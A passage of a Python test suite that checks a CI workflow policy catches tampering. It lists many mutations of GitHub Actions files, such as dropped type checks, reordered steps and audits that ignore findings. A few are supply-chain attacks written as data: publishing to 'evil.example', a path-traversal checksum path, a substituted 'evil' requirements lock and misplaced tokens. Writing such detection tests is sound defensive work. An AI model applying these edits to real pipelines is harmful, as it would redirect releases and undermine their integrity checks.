    Mutant("the signature of something else", "publish", "/sums/SHA256SUMS\n", "/sums/../x\n"),
    Mutant("another index to publish to", "release", "          packages-dir:", "          repository-url: https://evil.example\n          packages-dir:"),
    # What must be there.
    Mutant("a build that is not compared", "publish", '          diff -r "$RUNNER_TEMP/site" "$RUNNER_TEMP/again"\n', ""),
    Mutant("a site without its sums", "publish", "      - name: Seal\n        run: |\n" + f'          {SEAL} "$RUNNER_TEMP/site" "$GITHUB_SHA"\n', ""),
    Mutant("tests that are only listed", "test", "-m pytest", "-m pytest --collect-only"),
    Mutant("no types", "test", "          .venv/bin/python -I -m mypy\n", ""),
    Mutant("an audit that believes silence", "audit", "--strict ", ""),
    Mutant("an audit that leaves one out", "audit", "--strict", "--ignore-vuln X --strict"),
    Mutant("a wheel that nobody tries", "release", '          test "$("$RUNNER_TEMP/venv/bin/effsota" --version)" = "effsota, version ${GITHUB_REF_NAME#v}"\n', ""),
    # The same lines in another order, or about another file.
    Mutant("a verdict forgotten", "validate", JUDGED, f"{JUDGED}          status=0\n"),
    Mutant("an end before the verdict", "validate", JUDGED, f'          exit "$status"\n{JUDGED}'),
    Mutant("an end that never comes", "validate", '          exit "$status"\n', '          if [ -f "$RUNNER_TEMP/none.md" ]; then\n          exit "$status"\n          fi\n'),
    Mutant("a report written over by the preview", "validate", '/preview" > "$RUNNER_TEMP/told.md"', '/preview" > "$RUNNER_TEMP/report.md"'),
    Mutant("a preview over what judges", "validate", '--preview "$RUNNER_TEMP/preview"', '--preview "$RUNNER_TEMP/venv"'),
    Mutant("a report that is never told", "validate", 'cat "$RUNNER_TEMP/report.md"', 'cat "$RUNNER_TEMP/other.md"'),
    Mutant("a preview that may fail", "validate", "            exit 70\n          }", "          }"),
    Mutant("a lock of another name", "publish", "-r requirements-site.txt", "-r requirements-evil.txt"),
    Mutant("a lock more", "publish", "-r requirements-site.txt", "-r requirements-site.txt -r requirements-evil.lock"),
    Mutant("the copy that is not sealed", "publish", "path: ${{ runner.temp }}/site\n", "path: ${{ runner.temp }}/again\n"),
    Mutant("the sums of the other copy", "publish", "/site/SHA256SUMS", "/again/SHA256SUMS"),
    Mutant("the sums signed as a file", "publish", "subject-checksums: ${{ runner.temp }}/sums/SHA256SUMS", "subject-path: ${{ runner.temp }}/sums/*"),
    Mutant("packages handed on", "validate", "path: ${{ runner.temp }}/preview", "path: ${{ runner.temp }}/venv"),
    Mutant("another artifact", "comment", "          name: report\n          path: ${{ runner.temp }}/report\n", "          name: preview\n          path: ${{ runner.temp }}/report\n"),
    Mutant("a report from elsewhere", "comment", "path: ${{ runner.temp }}/report\n", "path: ${{ runner.temp }}/venv\n"),
    Mutant("a token for what installs", "comment", "        run: python3 -I .github/scripts/run.py find-pull", '        run: |\n          python3 -I .github/scripts/run.py find-pull\n          python -m venv "$RUNNER_TEMP/venv"'),
    Mutant("a token for a comment's sake", "comment", "outputs.vouched }}\n        run: |\n", "outputs.vouched }}\n          GH_TOKEN: ${{ github.token }}\n        run: |\n          # run.py find-pull\n"),
    *(
        Mutant(f"{first} after {second}", name, WORKFLOWS[name], exchanged(WORKFLOWS[name], first, second))
        for name, first, second in (
            ("validate", "Judge", "Tell"),
            ("validate", "Fetch the pull request", "Judge"),
            ("validate", "Judge", "Build the preview"),
            ("comment", "Judge", "Hand the report on"),
            ("comment", "Find the pull request", "Install"),
            ("publish", "Validate everything", "Hand the site on"),
            ("publish", "Seal", "Hand the site on"),
            ("publish", "Take the sums", "Attest every file"),
            ("release", "Build", "The wheel is the tag's, and works"),
        )
    ),
)  # fmt: skip


@pytest.mark.parametrize("mutant", MUTANTS, ids=lambda mutant: mutant.why)
def test_a_forbidden_change_is_seen(mutant: Mutant) -> None:
    """The policy finds something in the changed workflow."""
    changed = WORKFLOWS[mutant.name].replace(mutant.old, mutant.new, 1)
    assert changed != WORKFLOWS[mutant.name]
    assert find_faults(WORKFLOWS | {mutant.name: changed}) != []


# What may well be meant, and still is a change that a reviewer sees: the table holds every value.
SEEN = (
    Mutant("another hour", "publish", "17 * * * *", "18 * * * *"),
    Mutant("another Python", "publish", '"3.13"', '"3.12"'),
    Mutant("another lock", "validate", "-r requirements.txt", "-r requirements-dev.txt"),
    Mutant("a shorter history", "validate", "          fetch-depth: 0\n", ""),
    Mutant("other words", "validate", "It is not your fault, and", "It is your fault, and"),
    Mutant("another step's name", "publish", "- name: Seal", "- name: Sealed"),
    Mutant("another job's name", "validate", "    name: Validate\n", "    name: Check\n"),
    Mutant("another order", "publish", 'effsota build --today "$today" --queue "$queue" --ledger "$ledger" --commit "$GITHUB_SHA" -o "$RUNNER_TEMP/$copy"\n          done\n          diff -r "$RUNNER_TEMP/site" "$RUNNER_TEMP/again"', 'effsota build --today "$today" --queue "$queue" --ledger "$ledger" --commit "$GITHUB_SHA" -o "$RUNNER_TEMP/$copy"\n          diff -r "$RUNNER_TEMP/site" "$RUNNER_TEMP/again"\n          done'),
    Mutant("an upload that may be empty", "comment", "if-no-files-found: error", "if-no-files-found: ignore"),
    Mutant("a shorter timeout", "publish", "timeout-minutes: 15", "timeout-minutes: 1"),
)  # fmt: skip


@pytest.mark.parametrize("mutant", [*MUTANTS, *SEEN], ids=lambda mutant: mutant.why)
def test_any_change_is_seen_beside_the_table(mutant: Mutant) -> None:
    """Every value stands there; what follows a value on its line is the policy's to read."""
    name, text = mutant.name, WORKFLOWS[mutant.name]
    changed = {name: text.replace(mutant.old, mutant.new, 1)}
    assert changed != {name: text}
    assert find_changes(changed, {name: HELD[name]}) != [] or "version" in mutant.why


def test_there_are_more_than_a_hundred_kinds() -> None:
    """Each with a name of its own."""
    assert len({mutant.why for mutant in MUTANTS}) == len(MUTANTS) > 200


@pytest.mark.parametrize(
    "text",
    [
        "name: Links",
        "# a comment\nname: Links",
        "name:   Links",
        "name: 'Links'",
        '"name": "Links"',
        "? name\n: Links",
    ],
)
def test_what_says_the_same_is_the_same(text: str) -> None:
    """Blanks, quotes and comments are no change."""
    same = WORKFLOWS | {"links": WORKFLOWS["links"].replace("name: Links", text, 1)}
    assert (find_faults(same), find_changes(same, HELD)) == ([], [])


def test_a_new_workflow_is_seen() -> None:
    """Nobody adds one without a line in each table."""
    assert find_faults(WORKFLOWS | {"more": WORKFLOWS["links"]}) == ["more: a workflow that no table knows"]


def test_a_pin_is_renewed_by_the_command_that_renews_the_table() -> None:
    """Of an action that is known, to a whole commit with its version, in all workflows alike; of no other."""
    renewed = {
        name: text.replace(COMMIT, "a" * 40).replace(VERSION, "v99.0.1") for name, text in WORKFLOWS.items()
    }
    assert find_pins(renewed.values(), ACTIONS)["actions/checkout"] == ("a" * 40, "v99.0.1")
    half = WORKFLOWS | {"publish": renewed["publish"]}
    strange = {name: text.replace(CHECKOUT, f"uses: {EVIL}") for name, text in WORKFLOWS.items()}
    tagged = {name: text.replace(f"{COMMIT} # {VERSION}", "v7") for name, text in WORKFLOWS.items()}
    for texts in (WORKFLOWS, half, strange, tagged):
        assert find_pins(texts.values(), ACTIONS) == ACTIONS
